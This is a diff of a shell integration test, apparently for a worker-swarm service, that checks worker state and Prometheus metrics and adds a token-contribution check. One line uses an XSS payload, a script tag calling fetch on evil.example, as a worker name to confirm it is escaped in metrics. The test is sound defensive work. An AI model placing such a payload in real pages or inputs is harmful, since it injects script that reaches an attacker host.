@@ -27,13 +27,15 @@ wait_until 120 "steps" has_reached_step run 3 || fail "the run ended: $(tail -n 
 shows_workers() {
     curl -sS -m 20 "$origin/api/v1/state" >state.json
     jq -e --arg evil "$evil" --arg far "$far" '.swarm.workers | length == 3 and any(.[]; .name == $evil) and any(.[]; .name == $far) and
-        all(.[]; .name | length < 100) and ([.[] | select(.stage >= 0)] | length == 2)' state.json >/dev/null
+        all(.[]; .name | length < 100) and ([.[] | select(.stage >= 0)] | length >= 2) and
+        any(.[]; .tokens > 0)' state.json >/dev/null
 }
 wait_until 60 "workers" shows_workers || fail "workers: $(jq -c '.swarm.workers' state.json | cut -c 1-600)"
 jq -e '[.events[].text] | any(test("joined"))' state.json >/dev/null || fail "events: $(jq -c .events state.json)"
 curl -sS -m 20 "$origin/metrics" >metrics.txt
 grep -qF 'worker="<script>fetch(\"http://evil.example/\")</script>\"\\"' metrics.txt ||
     fail "the name is not escaped: $(grep -m 1 script metrics.txt)"
+grep -qE '^strait_worker_tokens_total\{.*\} [1-9]' metrics.txt || fail "no worker has contributed tokens"
 # A name in UTF-8 is shown as it is, and keeps the columns of the table.
 grep -qF "worker=\"$far\"" metrics.txt || fail "metrics: $(grep -m 1 Zo metrics.txt)"
 says run/events.log "worker $far .*joined"
